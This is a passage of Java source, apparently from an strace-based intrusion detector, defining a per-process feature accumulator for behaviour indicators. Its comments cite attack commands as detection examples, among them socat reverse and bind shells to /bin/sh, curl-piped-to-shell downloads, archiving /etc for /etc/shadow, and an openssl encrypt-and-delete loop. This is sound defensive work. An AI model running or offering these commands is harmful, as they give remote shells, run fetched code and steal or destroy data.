package io.procguard.ml;

import io.procguard.core.EventKind;
import io.procguard.core.FeatureAccumulator;
import io.procguard.core.FeatureVector;
import io.procguard.core.Syscalls;
import io.procguard.core.TraceEvent;
import io.procguard.strace.Arguments;
import java.util.List;

/**
 * The running features of one process ({@link BehaviourFeatures} order). Single writer, not thread-safe.
 * Memory is bounded: per-syscall counters, the {@code sys.other} and {@code seq.bigram} histograms, the
 * previous call of up to {@value #THREAD_SLOTS} threads (direct-mapped by tid), a few flags and sums, and, each
 * made on first use, three 128-byte distinct sketches, an {@link EvidenceLog} of at most
 * {@value EvidenceLog#CAPACITY} lines, a 1024-bit set of inet socket fds, and up to three 4096-bit Bloom filters of
 * the files it made (all of them, those a linker wrote or that are symbolic links, those written after an inet
 * connect; copied from the parent at fork when the parent has them).
 * Only calls that matter for a feature have their arguments decoded.
 */
final class BehaviourAccumulator implements FeatureAccumulator {
    private static final int WINDOW = 64;
    private static final int FD_BITS = 1024;
    private static final int CREATED_BITS = 4096;
    /** Kinds of made files ({@link #made}): all created ones, built or linked ones, fetched ones, directories. */
    private static final int CREATED = 0;
    private static final int BUILT = 1;
    private static final int FETCHED = 2;
    /** Directories made by mkdir, keyed by their whole path (the other kinds by basename). */
    private static final int DIRECTORY = 3;
    /**
     * Stems of created files: {@code report.docx} for a created {@code report.docx.locked} (the base name without its
     * last extension), not marked for archivers and package tools ({@code gzip -k f} writes {@code f.gz}).
     */
    private static final int STEM = 4;
    /**
     * Files a process created while it read a secret file, before or after ({@code tar czf x.tgz /etc}: the archive
     * holds /etc/shadow), keyed by basename.
     */
    private static final int SECRET_COPY = 5;
    private static final int FILE_KINDS = 6;
    private static final int MAX_GENERATION = 8;
    private static final int MASS_REWRITE_FILES = 8;
    /** Where counters handed up the fork tree stop. */
    private static final int MAX_COUNT = 1 << 20;
    /** Pipes a fork node remembers as carrying network data: the last few, for the pipelines of one family. */
    private static final int ONLINE_PIPES = 4;
    /** Pipes a fork node remembers as carrying what a secret-reading member wrote ({@link ForkNode#addSecretPipe}). */
    private static final int SECRET_PIPES = 2;
    /** The fork nodes a process shares with its family: its parent's (level 0), its grandparent's and great-grandparent's. */
    private static final int LEVELS_ABOVE = 3;
    /** How much of a shell's first read of a pipe {@link #fetchedText} keeps: all that {@code -s 256} prints. */
    private static final int FETCHED_CHARS = 256;
    /** How much of a network text an evidence line quotes. */
    private static final int QUOTED_CHARS = 64;
    /** The least of it a command-line program must start with to count as run from it. */
    private static final int MIN_FETCHED_CHARS = 4;
    /** How many of its last reads of TCP and UDP sockets a process remembers ({@link #networkReads}). */
    private static final int NETWORK_READS = 4;
    /** How long a line assembled from one-byte reads of a socket grows ({@link #networkRead}). */
    private static final int NETWORK_READ_CHARS = 256;
    /** How much of a read's printed data is kept: 256 bytes under {@code -s 256}, each at most 4 characters ({@code \\377}). */
    private static final int NETWORK_READ_PRINTED = 4 * 256 + 8;
    /** How many of its files created before its first inet connect a process remembers ({@link #createdOffline}). */
    private static final int CREATED_OFFLINE = 4;
    private static final int SCAN_PORTS = 20;
    private static final int SCAN_PROCESSES = 16;
    private static final int RECON_KINDS = 4;
    /**
     * Generations in a row, in one tree of forks without exec, that each had 2 or more children alive at once, that
     * make a fork storm (a bomb's members all wait on 2 or more copies of themselves). Scripts nest their forks too
     * ({@code cmd | while read; do y=$(echo | sed); done} is 3 generations deep, {@code mvn}'s launcher 4), but their
     * subshells rarely each run several children at once.
     */
    private static final int FORK_STORM_CHAIN = 4;
    /** Threads whose previous call is remembered for {@code seq.bigram.*} (a power of two). */
    private static final int THREAD_SLOTS = 8;
    /** How many {@link Feature} constants there are ({@code values()} copies its array on every call). */
    private static final int NAMED_FEATURES = Feature.values().length;

    /** {@code (float) Math.log1p(k)} for small k: a snapshot takes some 60 of them, mostly of small counts. */
    private static final float[] LOG1P = new float[1024];
    /** Ordinals of the {@code cat.*} features, in the order of {@link SyscallTable}'s category bits. */
    private static final int[] CATEGORIES = ordinals(List.of(Feature.CAT_FILE_RATIO, Feature.CAT_NET_RATIO,
            Feature.CAT_PROC_RATIO, Feature.CAT_MEM_RATIO, Feature.CAT_IPC_RATIO, Feature.CAT_TIME_RATIO, Feature.CAT_PRIV_RATIO,
            Feature.CAT_SYSADMIN_RATIO));
    /** {@link BehaviourFeatures#LOG_MARKS} and the other sets as ordinals (iterating an EnumSet allocates). */
    private static final int[] LOG_MARKS = ordinals(BehaviourFeatures.LOG_MARKS);
    private static final int[] RATE_MARKS = ordinals(BehaviourFeatures.RATE_MARKS);
    /** {@link BehaviourFeatures#FLAG_MARKS}, then {@link BehaviourFeatures#INDICATORS}: reported as 0/1. */
    private static final int[] FLAGS;
    private static final int[] INDICATORS = ordinals(BehaviourFeatures.INDICATORS);
    /** The severity of each of {@link #INDICATORS}. */
    private static final int[] INDICATOR_SEVERITY;

    static {
        for (int k = 0; k < LOG1P.length; k++) {
            LOG1P[k] = (float) Math.log1p(k);
        }
        int[] flags = ordinals(BehaviourFeatures.FLAG_MARKS);
        FLAGS = java.util.Arrays.copyOf(flags, flags.length + INDICATORS.length);
        System.arraycopy(INDICATORS, 0, FLAGS, flags.length, INDICATORS.length);
        Feature[] all = Feature.values();
        INDICATOR_SEVERITY = new int[INDICATORS.length];
        for (int i = 0; i < INDICATORS.length; i++) {
            INDICATOR_SEVERITY[i] = all[INDICATORS[i]].severity();
        }
    }

    private static int[] ordinals(java.util.Collection<Feature> features) {
        return features.stream().mapToInt(Feature::ordinal).toArray();
    }

    private final BehaviourFeatures owner;
    private final int[] perSyscall = new int[SyscallTable.SIZE];
    /** Calls per {@code sys.freq.*} group, in {@link BehaviourFeatures#GROUPS} order. */
    private final int[] perGroup = new int[SyscallTable.GROUPS];
    private final int[] perOther = new int[SyscallTable.OTHER_BUCKETS];
    private final int[] perBigram = new int[SyscallTable.BIGRAM_BUCKETS];
    /** Per thread slot: its tid (0 = empty) and the slot of its previous call. */
    private final int[] threadTid = new int[THREAD_SLOTS];
    private final int[] threadPrevious = new int[THREAD_SLOTS];
    /** Booleans and counters that are not per-syscall, indexed by {@link Feature} ordinal. */
    private final float[] marks = new float[NAMED_FEATURES];
    // Allocated on first use (most processes open files, few touch sockets or keep evidence): null reads as empty.
    /** The inet socket fds, or null while there is none. */
    private long[] inetSocketFds;
    private DistinctCounter files;
    private DistinctCounter endpoints;
    private DistinctCounter ports;
    /** Distinct hosts it connected (or tried) to on a service port worms sweep ({@link Indicators#sweptPort}): schema 42. */
    private DistinctCounter sweptHosts;
    private EvidenceLog evidence;
    /** The path of the last dirfd a relative path was joined to ({@code AT_FDCWD</work/dir>} again and again). */
    private LastDecoded dirPaths;
    /** The endpoint of the last socket address (a resolver, the nscd socket, a reverse shell's listener). */
    private LastDecoded socketAddresses;
    /** Where evidence lines are rendered before the log decides to keep one (then copied). */
    private static final ThreadLocal<StringBuilder> RENDERED = ThreadLocal.withInitial(() -> new StringBuilder(2 * EvidenceLog.MAX_LENGTH));

    private long syscalls;
    private long bigrams;
    private long failed;
    private long eacces;
    private long eperm;
    private long enoent;
    private long refused;
    private long opens;
    private long openFails;
    private long openWrites;
    private long connects;
    private long connectFails;
    private long execs;
    private long execFails;
    private long forks;
    private long privDenied;
    private double readBytes;
    private double writeBytes;
    private double netBytes;
    private boolean connectedInet;
    /**
     * The process that forked it had connected to an inet address by then (kept across exec): {@code socat
     * TCP:HOST:PORT EXEC:/bin/sh} forks the shell on a socketpair, pipes or a pty and relays the connection. Not when
     * that process is a CI agent ({@link Indicators#ciAgent}: GitLab Runner feeds its job to {@code bash} on stdin).
     */
    private boolean parentConnected;
    /**
     * It accepted an inet connection since its last exec, or the process it forked from had (a forking server's
     * per-connection child): {@code socat TCP-LISTEN:PORT,fork EXEC:/bin/sh}. Cleared at exec: a program started by a
     * server did not accept anything itself.
     */
    private boolean acceptedInet;
    /**
     * The process that forked it had {@link #acceptedInet} and is no remote-login server (sshd forks the user's
     * shell): a bind shell's relay (kept across exec).
     */
    private boolean parentAccepted;
    /**
     * Its program is an interactive shell that takes its commands from stdin: {@code -i} without {@code -c}
     * (set at each exec).
     */
    private boolean commandShell;
    /**
     * Its stdin, as far as the trace shows, is a pipe, a FIFO, a socket or a file rather than a terminal: a
     * {@code dup2} onto fd 0 (inherited at fork, kept across exec) or a read of fd 0, by their {@code -y} decoration.
     */
    private boolean stdinNotTerminal;
    /**
     * The inodes of the pipes on its fd 0 and fd 1 as far as the trace shows (a {@code dup2} onto them, or a read or
     * write of them, by their {@code -y} decoration: {@code pipe:[N]}); 0 when unknown or no pipe. Inherited at fork,
     * kept across exec.
     */
    private long stdinPipe;
    /**
     * It set its stdin itself (a {@code dup2} onto 0) or read it, rather than only inheriting it: a filter of a
     * pipeline ({@code curl URL | base64 -d | sh}), not a helper that a program reading the network's pipe forks
     * ({@code $(pyenv version-name)} under {@code curl URL | python3}), which must not publish its own pipes as online.
     */
    private boolean stdinOwn;
    /**
     * It opened for reading a file its family downloaded ({@link #fetchedInFamily}): its output carries network data
     * too ({@code curl -o x.sh URL; cat x.sh | sh}). Kept across exec ({@code cat < x.sh}: the child opens it), not
     * inherited at fork.
     */
    private boolean readsFetched;
    /** Its stdin is a file its family downloaded ({@code sh < x.sh}: a {@code dup2} onto 0); kept across exec. */
    private boolean stdinFetched;
    /** Its first read of fd 0 as a program reading its code from stdin is in the evidence (once per exec). */
    private boolean programReadNoted;
    /**
     * True once the program it runs (not a shell) read data from its stdin: only that first read is looked at, for
     * {@link #fetchedText} (schema 45).
     */
    private boolean stdinTextSeen;
    private long stdoutPipe;
    /** The last pipe it published to its family as carrying network data ({@link #publishOnlinePipe()}). */
    private long publishedPipe;
    /** Its program reads its code from stdin ({@link ExecRules#readsProgramFromStdin}; set at each exec). */
    private boolean programFromStdin;
    /**
     * Its program is a shell or interpreter whose script is a descriptor ({@code /dev/fd/N}, {@code /proc/self/fd/N}):
     * process substitution, {@code bash <(curl URL)}; set at each exec.
     */
    private boolean scriptFromFd;
    /** The inode of the first pipe a {@link #scriptFromFd} program read (its script, in a full trace); 0 before. */
    private long scriptPipe;
    /**
     * Its fork node from before its last exec: the children it forked then (a process substitution's writer, when
     * {@code bash -c 'bash <(curl URL)'} execs its last command in place) write the pipes it reads now.
     */
    private ForkNode nodeBeforeExec;
    /**
     * What its program is, as {@link ExecRules#classify} says (set at each exec, inherited at fork: a subshell is a shell
     * too); 0 before any exec the trace showed.
     */
    private int imageKind;
    /**
     * Its program is a tool for requests by hand: a downloader (curl, wget, nc), a shell, or an interpreter running a
     * program from its command line ({@code python3 -c}); not an application, whose SDK may ask the cloud's metadata
     * service for its own credentials (set at each exec, inherited at fork).
     */
    private boolean handTool;
    /**
     * Its program is an application server fed by a web server over a UNIX socket ({@link Indicators#unixSocketAppServer}:
     * php-fpm, php-cgi, uwsgi): what it reads from a UNIX stream socket came from the network too.
     */
    private boolean unixSocketAppServer;
    /** The file whose inode flags it last read ({@code FS_IOC_GETFLAGS}) with immutable or append-only set, else null. */
    private String lockedFlagsPath;
    /**
     * The descriptor it connected to a cloud's metadata service with, or -1: with the traced program in another network
     * namespace than strace, {@code -yy} decorates its sockets with their inode only.
     */
    private int metadataFd = -1;
    /** The socket it connected to a container engine's API ({@code /var/run/docker.sock}, podman's), or -1 (schema 39). */
    private int containerApiFd = -1;
    /**
     * The connected UDP socket whose peer {@link #dnsQuery} last looked at (-1: none), and whether that peer is port 53:
     * a program sending thousands of datagrams on one socket (statsd, syslog) pays for reading its decoration once.
     * Forgotten when the descriptor is closed, connected anew or replaced by a dup, and when the program changes (exec).
     */
    private int udpPeerFd = -1;
    private boolean udpPeerIsDns;
    /** {@code ind.dns_tunnel} (schema 51): its DNS questions carrying data, in a row to one domain; null until the first. */
    private TunnelCount tunnel;
    /** It opened a credential file for reading, even where that was no indicator (a backup walking /etc): its output is secret. */
    private boolean readSecret;
    /** Its stdout pipe was published as secret ({@link #publishSecretPipe()}). */
    private boolean secretPublished;
    /** Other pipes it wrote into after reading a secret, published as secret (at most {@link #SECRET_PIPES}), and the last. */
    private int secretPipesPublished;
    private long lastSecretPipe;
    /** The descriptor of the last file it wrote into as a secret reader, marked {@link #SECRET_COPY}; -1 before. */
    private int lastSecretFileFd = -1;
    /** The last descriptor of a file it wrote while connected, marked as its download (schema 46); -1 for none. */
    private int lastFetchedFileFd = -1;
    /** {@link #secretToNetwork} fired (once). */
    private boolean exfiltrationNoted;
    /** It opened for reading a file its family made while reading a secret ({@link #SECRET_COPY}); kept across exec. */
    private boolean readsSecretCopy;
    /**
     * The descriptor a shell opened from {@code /dev/fd/N} or {@code /proc/self/fd/N} until its first read, dup or
     * close ({@code source <(curl URL)} reads it; {@code done < <(cmd)} dups it onto 0 first); -1 for none.
     */
    private int sourcedFd = -1;
    /** The inode of the last pipe (on a descriptor above 2) whose first read a shell program made; 0 before. */
    private long shellReadPipe;
    /**
     * What a shell read first from a pipe above fd 2 (a command substitution, {@code $(curl URL)}), at most
     * {@link #FETCHED_CHARS} characters, and that pipe's inode; the one from a pipe its family published as online is
     * kept over later ones. Inherited at fork. {@code bash -c "$(curl URL)"} execs a program that starts with it.
     */
    private String fetchedText;
    /** The pipe {@link #fetchedText} came from, or {@link #FETCHED_FILE}. */
    private long fetchedPipe;
    /** {@link #fetchedPipe} of a text read from a file its family downloaded (schema 46). */
    private static final long FETCHED_FILE = -1;
    /**
     * Schema 46: the descriptor of the file its family downloaded that it (not a shell) opened for reading, until its
     * first read there, whose data becomes {@link #fetchedText}: {@code curl -o x URL; awk '{system($0)}' x}; or -1.
     */
    private int fetchedFileFd = -1;
    /** It opened a file its family downloaded since its exec ({@link #fetchedFileFd}); only the first is looked at. */
    private boolean fetchedFileOpened;
    /**
     * The keys of the last {@link #CREATED_OFFLINE} files it created while it had no inet connection (kept across
     * exec: {@code curl URL > x.sh} creates the file in the child before the exec); null while none. {@code wget -O x URL}
     * (and Python's {@code open(x, 'wb').write(urlopen(URL).read())}) creates its output before it connects: its first
     * connect marks them fetched.
     */
    private int[] createdOffline;
    /**
     * Its last reads of TCP and UDP sockets, or its parent's at its fork: what a request or a command channel said,
     * matched against the programs it runs ({@link Indicators#programFromNetwork}). Each as strace printed it, from
     * the comma after the descriptor ({@link #networkReadPrinted}), or decoded when made of one-byte reads. Null until
     * a first such read.
     */
    private String[] networkReads;
    /** Which of {@link #networkReads} are still as printed (decoded only when an exec asks). */
    private boolean[] networkReadPrinted;
    private int networkReadNext;
    /** The descriptor of the newest of {@link #networkReads}. */
    private int networkReadFd = -1;
    /** The newest of {@link #networkReads} was made of one-byte reads: the next one joins it. */
    private boolean networkReadJoinable;
    private int createdOfflineNext;
    private int createdOfflineCount;
    /**
     * Its program may save a shell history: not a shell run with {@code -c} or a script (which keep none); true until
     * an exec says otherwise (a process attached to, whose exec the trace did not show).
     */
    private boolean mayKeepHistory = true;

    private int windowFill;
    private int windowFailed;
    private int windowDenied;
    private int windowDestructive;
    private int windowForks;
    private int maxFailed;
    private int maxDenied;
    private int maxDestructive;
    private int maxForks;

    // ---- indicator state (see Indicators and FEATURES.md)
    /**
     * Files this process (or its parent before the fork) made, by path hash, one filter per kind: {@link #CREATED}
     * all of them, {@link #BUILT} those a linker or compiler driver wrote ({@link Indicators.Role#BUILDER}), that
     * were made as symbolic links, or that an archiver unpacked from an archive file while nothing of its family had been
     * downloaded ({@link Indicators#unpacksArchiveFile}), {@link #FETCHED} those written after an inet connect (not by archivers or VCS),
     * {@link #DIRECTORY} the directories it made; a filter is null while it holds none.
     */
    private final long[][] made = new long[FILE_KINDS][];
    /** Basename and path of the program it runs (inherited at fork), script of an interpreter, or null. */
    private String exeBase;
    private String exePath;
    private String scriptPath;
    /**
     * True once the program it runs said it is Perl ({@code readlink("/proc/self/exe")} naming a {@code perl*} file,
     * as every Perl does at start to set {@code $^X}); false again at exec.
     */
    private boolean perl;
    /**
     * True once it or an ancestor ran a package tool ({@link Indicators.Role#PACKAGE}; kept across exec and fork): a
     * maintainer script's {@code setcap cap_net_raw+ep /bin/ping} under dpkg is the package's, not a backdoor.
     */
    private boolean underPackageTool;
    /**
     * True once it or an ancestor ran Python to install packages or make an environment ({@code python3 -m pip},
     * {@code -m venv}, {@code setup.py}, {@code virtualenv}: {@link Indicators#installsPythonPackages}; kept across exec
     * and fork): the {@code .pth} files they write are the packages', not start-up hooks planted by hand (schema 44).
     */
    private boolean installsPython;
    /**
     * True while it is a dynamic loader that maps a file to list or check its libraries and runs none of it: run by
     * {@code ldd}, or told {@code --verify} or {@code --list} (schema 44). Its executable mappings of a file in /tmp are
     * {@code ldd /tmp/build/app}, not code run from there.
     */
    private boolean examinesOnly;
    /** True while it runs an archiver unpacking an archive file named in its argv ({@link Indicators#unpacksArchiveFile}). */
    private boolean unpacksArchiveFile;
    /**
     * The working directory as last seen (a {@code -yy} {@code AT_FDCWD</dir>} decoration, chdir or fchdir; the
     * parent's at fork), or null when not known: an exec of {@code ./payload} is resolved against it.
     */
    private String cwd;
    /**
     * The argv of an archiver or sync tool ({@link Indicators.Role#TREE}; at most 64 strings), to tell a file it
     * walked into from one it was named; null for other programs.
     */
    private List<String> treeArgv;
    /** The first tid seen: the process's main thread. */
    private int leaderTid = -1;
    private int forkGeneration;
    /** How many of its children were alive at once (replaced at exec), or null while it has forked none. */
    private ForkNode forkNode;
    /**
     * The nodes of its nearest {@link #FORK_STORM_CHAIN} ancestors without exec in between, nearest first (null
     * entries where the tree ends), or null for a root and after an exec.
     */
    private ForkNode[] forkAbove;
    /** Its parent's fork node (kept across its own exec), where it leaves the files it created when it ends. */
    private ForkNode parentNode;
    /**
     * The fork nodes of its grandparent and great-grandparent (kept across exec like {@link #parentNode}; null when
     * both are): a file made below them is its family's too. {@code ./configure} links {@code conftest} in one subshell
     * and runs it from another, so the linker's files reach the configure shell's node, two levels above the run.
     * Nodes hold no nodes, so this keeps at most two more alive.
     */
    private ForkNode[] nodesAbove;
    private long realUid = -1;
    private boolean stdinNotTty;
    private boolean forkFailedEagain;
    private boolean permissionHunt;
    private int reconKinds;
    private int foreignFilesDestroyed;
    /**
     * The descriptor of a file it opened for reading and writing in place ({@code O_RDWR}, no create, truncate or
     * append) and did not create, until it is rewritten or closed; -1 for none (schema 41: encryption in place).
     */
    private int inPlaceFd = -1;
    /** Its path's hash, and how many bytes the last read of it returned (-1: not read yet). */
    private int inPlacePath;
    private long inPlaceRead = -1;
    /** Files read and then rewritten in place with as many bytes, mostly unprintable: {@link #inPlaceSeen} holds the last ones. */
    private int inPlaceRewrites;
    private int[] inPlaceSeen;
    /** Its program is an archiver told to encrypt and to delete what it packs ({@link Indicators#encryptsAndRemoves}). */
    private boolean encryptingArchiver;
    /**
     * Files nobody of its family created that it deleted or renamed away after its family wrote an extended copy
     * ({@code NAME.EXT}: {@link #STEM}): encrypt-and-replace spread over processes ({@code openssl enc -in f -out
     * f.locked && rm f} in a shell loop).
     */
    private int replacedFiles;
    private int filesWritten;
    /** {@link String#hashCode()} of the last {@link #path} or {@link #decodePath} result. */
    private int pathHash;

    BehaviourAccumulator(BehaviourFeatures owner, BehaviourAccumulator parent) {
        this.owner = owner;
        if (parent != null) {
            forkGeneration = Math.min(parent.forkGeneration + 1, MAX_GENERATION);
            forkAbove = ancestorsOf(parent);
            parentNode = forkAbove[0];
            ForkNode grand = parent.parentNode;
            ForkNode greatGrand = parent.nodesAbove == null ? null : parent.nodesAbove[0];
            nodesAbove = grand == null && greatGrand == null ? null : new ForkNode[] {grand, greatGrand};
            exeBase = parent.exeBase;
            unixSocketAppServer = parent.unixSocketAppServer;
            exePath = parent.exePath;
            scriptPath = parent.scriptPath;
            perl = parent.perl;
            unpacksArchiveFile = parent.unpacksArchiveFile;
            underPackageTool = parent.underPackageTool;
            installsPython = parent.installsPython;
            cwd = parent.cwd;
            treeArgv = parent.treeArgv;
            stdinNotTerminal = parent.stdinNotTerminal;
            stdinPipe = parent.stdinPipe;
            stdoutPipe = parent.stdoutPipe;
            imageKind = parent.imageKind;
            handTool = parent.handTool;
            parentConnected = parent.connectedInet && !Indicators.ciAgent(parent.exeBase);
            acceptedInet = parent.acceptedInet;
            parentAccepted = parent.acceptedInet && !Indicators.remoteLoginServer(parent.exeBase);
            fetchedText = parent.fetchedText;
            fetchedPipe = parent.fetchedPipe;
            networkReads = parent.networkReads == null ? null : parent.networkReads.clone();
            networkReadPrinted = parent.networkReadPrinted == null ? null : parent.networkReadPrinted.clone();
            networkReadNext = parent.networkReadNext;
            networkReadFd = parent.networkReadFd;
            networkReadJoinable = parent.networkReadJoinable;
            for (int k = 0; k < FILE_KINDS; k++) {
                made[k] = parent.made[k] == null ? null : parent.made[k].clone();
            }
        }
    }

    @Override
    public void accept(TraceEvent e) {
        if (leaderTid < 0) {
            leaderTid = e.pid();
        }
        switch (e.kind()) {
            case SYSCALL -> syscall(e);
            case SIGNAL -> signal(e);
            case KILLED -> {
                set(Feature.SIG_FATAL);
                if (e.coreDumped()) {
                    set(Feature.SIG_CORE_DUMPED);
                }
                log().add(EvidenceLog.MEDIUM, "+++ killed by " + e.signalName() + (e.coreDumped() ? " (core dumped)" : "") + " +++");
                ended();
            }
            case EXITED -> ended();
            default -> {
                // attach/detach and strace messages carry no behaviour
            }
        }
    }

    private void signal(TraceEvent e) {
        marks[Feature.SIG_RECEIVED_LOG.ordinal()]++;
        String s = e.signalName();
        if ("SIGSEGV".equals(s) || "SIGBUS".equals(s) || "SIGILL".equals(s) || "SIGFPE".equals(s) || "SIGSYS".equals(s)) {
            set(Feature.SIG_FAULT);
            log().add(EvidenceLog.MEDIUM, "--- " + s + " ---");
        }
    }

    private void syscall(TraceEvent e) {
        int id = e.syscall();
        syscalls++;
        int slot = SyscallTable.slot(id);
        perSyscall[slot]++; // categories are summed from these counts in snapshot()
        int countsFor = SyscallTable.countsFor(slot);
        if (countsFor < SyscallTable.OTHER_FLAG) {
            perGroup[countsFor]++;
        } else {
            perOther[countsFor - SyscallTable.OTHER_FLAG]++;
        }
        bigram(e.pid(), slot);
        boolean ok = !e.hasReturnValue() || e.returnValue() >= 0 || e.errno() == 0 && e.errnoName() == null;
        if (!ok) {
            failed++;
            windowFailed++;
            int errno = e.errno();
            if (errno == 13) {
                eacces++;
                windowDenied++;
            } else if (errno == 1) {
                eperm++;
                windowDenied++;
            } else if (errno == 2) {
                enoent++;
            } else if (errno == 111 || errno == 110) {
                refused++;
            }
        }
        dispatch(e, id, ok);
        if (++windowFill == WINDOW) {
            closeWindow();
        }
    }

    /** Counts the pair (previous call of this thread, this call); a thread evicted from its slot starts over. */
    private void bigram(int tid, int slot) {
        int t = tid & (THREAD_SLOTS - 1);
        if (threadTid[t] == tid && tid != 0) {
            perBigram[SyscallTable.bigramBucket(threadPrevious[t], slot)]++;
            bigrams++;
        }
        threadTid[t] = tid;
        threadPrevious[t] = slot;
    }

    private void closeWindow() {
        maxFailed = Math.max(maxFailed, windowFailed);
        maxDenied = Math.max(maxDenied, windowDenied);
        maxDestructive = Math.max(maxDestructive, windowDestructive);
        maxForks = Math.max(maxForks, windowForks);
        windowFill = 0;
        windowFailed = 0;
        windowDenied = 0;
        windowDestructive = 0;
        windowForks = 0;
    }

    private void dispatch(TraceEvent e, int id, boolean ok) {
        switch (id) {
            case Syscalls.READ, Syscalls.READV, Syscalls.PREAD64 -> {
                if (e.returnValue() > 0) {
                    readBytes += e.returnValue();
                    if (inPlaceFd >= 0 && Arguments.fd(e.arguments()) == inPlaceFd) {
                        inPlaceRead = e.returnValue();
                    }
                    if (id == Syscalls.READ) {
                        networkRead(e);
                        if (fetchedFileFd >= 0) {
                            readsFetchedFile(e);
                        }
                    }
                }
                stdioSocketIo(e);
            }
            case Syscalls.WRITE, Syscalls.WRITEV, Syscalls.PWRITE64 -> {
                if (e.returnValue() > 0) {
                    writeBytes += e.returnValue();
                    if (inPlaceFd >= 0 && id != Syscalls.WRITEV && Arguments.fd(e.arguments()) == inPlaceFd) {
                        rewrittenInPlace(e);
                    }
                    if (id == Syscalls.WRITE) {
                        writeTarget(e);
                    }
                }
                stdioSocketIo(e);
            }
            case Syscalls.SENDTO, Syscalls.SENDMSG, Syscalls.RECVFROM, Syscalls.RECVMSG -> {
                if (e.returnValue() > 0) {
                    netBytes += e.returnValue();
                    if (id == Syscalls.RECVFROM) {
                        networkRead(e);
                    } else if (id == Syscalls.SENDTO) {
                        if (containerApiFd >= 0 && Arguments.fd(e.arguments()) == containerApiFd) {
                            containerApiRequest(e, e.arguments());
                        }
                        boolean inet = decoratedAsInet(e.arguments()) || inetSocketFds != null && isMarkedInet(Arguments.fd(e.arguments()));
                        if (inet && !decoratedAsUdp(e.arguments())) {
                            poolMessage(e, e.arguments()); // pools speak TCP
                        }
                        if (handTool && (inet || metadataFd >= 0)) {
                            metadataRequest(e);
                        }
                    }
                }
                CharSequence address = id == Syscalls.SENDTO ? Arguments.nth(e.arguments(), 4) : null;
                if (id == Syscalls.SENDTO) {
                    endpoint(e, address, false);
                }
                if ((id == Syscalls.SENDTO || id == Syscalls.SENDMSG) && e.returnValue() > 0) {
                    dnsQuery(e, address);
                }
            }
            case Syscalls.SENDMMSG -> dnsQuery(e, null); // glibc's resolver: the A and AAAA questions in one call
            case Syscalls.OPEN, Syscalls.CREAT -> open(e, 0, id == Syscalls.CREAT ? -1 : 1, ok);
            case Syscalls.OPENAT, Syscalls.OPENAT2 -> open(e, 1, 2, ok);
            case Syscalls.UNLINK -> destructive(e, 0, Feature.FILE_UNLINK_RATE);
            case Syscalls.RMDIR -> destructive(e, 0, null);
            case Syscalls.UNLINKAT -> destructive(e, 1, Arguments.hasFlag(Arguments.nth(e.arguments(), 2), "AT_REMOVEDIR") ? null
                    : Feature.FILE_UNLINK_RATE);
            case Syscalls.RENAME -> {
                destructive(e, 0, Feature.FILE_RENAME_RATE);
                modified(e, path(e, 1), "rename");
                renamedDownload(e, 0, 1, ok);
            }
            case Syscalls.RENAMEAT, Syscalls.RENAMEAT2 -> {
                destructive(e, 1, Feature.FILE_RENAME_RATE);
                modified(e, path(e, 3), "rename");
                renamedDownload(e, 1, 3, ok);
            }
            case Syscalls.LINK, Syscalls.LINKAT, Syscalls.READLINK -> links(e, id, ok);
            case Syscalls.SYMLINK -> modified(e, path(e, 1), "symlink");
            case Syscalls.SYMLINKAT -> modified(e, path(e, 2), "symlink");
            case Syscalls.MKDIR -> madeDirectory(path(e, 0), ok);
            case Syscalls.MKDIRAT -> madeDirectory(path(e, 1), ok);
            case Syscalls.UTIMENSAT -> timestamps(e);
            case Syscalls.GETUID -> realUid = ok && e.hasReturnValue() ? e.returnValue() : realUid;
            case Syscalls.IOCTL -> {
                if (!ok) {
                    if (e.errno() == 25 && Arguments.fd(e.arguments()) == 0 && Arguments.hasFlag(Arguments.nth(e.arguments(), 1), "TCGETS")) {
                        stdinNotTty = true; // ENOTTY: stdin is no terminal
                    }
                } else {
                    CharSequence request = Arguments.nth(e.arguments(), 1);
                    if (request.length() > 7 && request.charAt(0) == 'F' && Indicators.regionIs(request, 0, 7, "FS_IOC_")) {
                        inodeFlags(e, request); // chattr, lsattr
                    }
                }
            }
            case Syscalls.TRUNCATE -> destructive(e, 0, Feature.FILE_TRUNCATE_RATE);
            case Syscalls.FTRUNCATE -> {
                count(Feature.FILE_TRUNCATE_RATE);
                windowDestructive++;
                modified(e, Arguments.fdPath(Arguments.nth(e.arguments(), 0)), "ftruncate");
            }
            case Syscalls.CHMOD -> chmod(e, path(e, 0), Arguments.nth(e.arguments(), 1));
            case Syscalls.FCHMODAT -> chmod(e, path(e, 1), Arguments.nth(e.arguments(), 2));
            case Syscalls.FCHMOD -> chmod(e, Arguments.fdPath(Arguments.nth(e.arguments(), 0)), Arguments.nth(e.arguments(), 1));
            case Syscalls.CHOWN, Syscalls.LCHOWN, Syscalls.FCHOWN, Syscalls.FCHOWNAT -> count(Feature.FILE_CHMOD_RATE);
            case Syscalls.SETXATTR, Syscalls.LSETXATTR, Syscalls.FSETXATTR -> fileCapabilities(e, ok);
            case Syscalls.SOCKET -> socket(e, ok);
            case Syscalls.CONNECT -> {
                if (Arguments.fd(e.arguments()) == udpPeerFd) {
                    udpPeerFd = -1; // a UDP socket connected anew has another peer
                }
                connect(e, ok);
            }
            case Syscalls.BIND -> bind(e, ok);
            case Syscalls.LISTEN -> {
                set(Feature.NET_LISTEN);
                note(EvidenceLog.LOW, e, e.arguments());
            }
            case Syscalls.ACCEPT, Syscalls.ACCEPT4 -> {
                if (ok && e.hasReturnValue()) {
                    marks[Feature.NET_ACCEPT_LOG.ordinal()]++;
                    if (isInetSocket(Arguments.nth(e.arguments(), 0))) {
                        markInetFd(e.returnValue());
                        familyOnline();
                        acceptedInet = true;
                    }
                }
            }
            case Syscalls.DUP2, Syscalls.DUP3 -> dup(e, ok);
            case Syscalls.CLOSE -> {
                // the AND of ints is negative only when all are: no descriptor is watched (nearly every close), so
                // its argument need not be read
                if (inetSocketFds == null && (metadataFd & containerApiFd & inPlaceFd & udpPeerFd & sourcedFd & fetchedFileFd) < 0) {
                    return;
                }
                int fd = Arguments.fd(e.arguments());
                unmarkInetFd(fd);
                if (fd == metadataFd) {
                    metadataFd = -1;
                }
                if (fd == containerApiFd) {
                    containerApiFd = -1;
                }
                if (fd == inPlaceFd) {
                    inPlaceFd = -1;
                }
                if (fd == udpPeerFd) {
                    udpPeerFd = -1;
                }
                if (fd == sourcedFd) {
                    sourcedFd = -1;
                }
                if (fd == fetchedFileFd) {
                    fetchedFileFd = -1;
                }
            }
            case Syscalls.EXECVE -> exec(e, 0, ok);
            case Syscalls.CHDIR, Syscalls.FCHDIR -> {
                if (ok) {
                    changedDirectory(e, id == Syscalls.FCHDIR);
                }
            }
